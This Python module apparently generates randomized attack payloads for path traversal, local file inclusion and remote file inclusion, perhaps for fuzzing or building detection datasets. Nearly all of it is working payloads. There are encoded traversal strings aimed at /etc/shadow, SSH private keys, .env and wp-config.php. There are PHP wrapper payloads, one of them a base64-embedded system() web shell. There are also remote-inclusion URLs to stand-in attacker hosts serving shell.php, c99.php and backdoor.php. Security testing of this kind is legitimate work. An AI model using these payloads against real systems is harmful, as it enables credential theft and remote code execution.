"""Path traversal, file inclusion and RFI attack grammars. Each function takes the explicit random.Random and
returns a payload."""
import base64

from ..draw import pick

TRAV_TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ", "etc/issue", "WEB-INF/web.xml",
                "var/log/apache2/access.log", "windows/system32/drivers/etc/hosts", ".htaccess", ".env", "config/database.yml", "proc/self/cmdline", "root/.ssh/id_rsa", "etc/nginx/nginx.conf", "wp-config.php"]


def trav_dotdot(r):
    d = r.randint(1, 10)
    t = pick(r, TRAV_TARGETS)
    up = pick(r, ["../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", "..%5c", "%252e%252e%252f", "..%c0%af", "..%u2216", ".%2e/", "..///", "/..", "..%00/"])
    sep = "\\" if "\\" in up else "/"
    return pick(r, ["", "/", "./", "static/", "images/", "file=", ""]) + up * d + t.replace("/", sep) + pick(r, ["", "", "%00", "%00.jpg", "%00.html", "?", "#"])


def trav_abs(r):
    t = pick(r, TRAV_TARGETS)
    return pick(r, [f"/{t}", f"file:///{t}", f"c:\\{t.replace('/', chr(92))}", f"C:/{t}", f"\\\\localhost\\c$\\{t.replace('/', chr(92))}",
                 f"/var/www/../../{t}", f"/proc/self/fd/{r.randint(0, 9)}", f"file://localhost/{t}", f"/{t}%00", f"//{t}"])


def lfi_wrapper(r):
    f = pick(r, ["index.php", "config.php", "../config.php", "/etc/passwd", "admin.php"])
    return pick(r, [f"php://filter/convert.base64-encode/resource={f}", f"php://filter/read=string.rot13/resource={f}", "php://input", "expect://id",
                 f"data://text/plain;base64,{base64.b64encode(b'<?php system($_GET[c]); ?>').decode()}", f"zip://uploads/avatar.jpg%23shell.php",
                 f"phar://uploads/x.phar/{f}", f"php://filter/resource={f}", "data:text/plain,<?php phpinfo(); ?>", f"glob://{f}", f"jar:file:///tmp/x.jar!/{f}"])


def rfi(r):
    host = pick(r, ["evil.example", "attacker.example.com", "10.1.2.3", "xn--e1afmkfd.example", "pastebin.example/raw"])
    return pick(r, [f"http://{host}/shell.txt?", f"https://{host}/c99.php", f"http://{host}/x.txt%00", f"ftp://{host}/shell.php",
                 f"//{host}/shell.php?", f"http://{host}/r57.txt??", f"\\\\{host}\\share\\shell.php", f"https://{host}/inc.txt#", f"http://{host}/backdoor.php?cmd=id"])


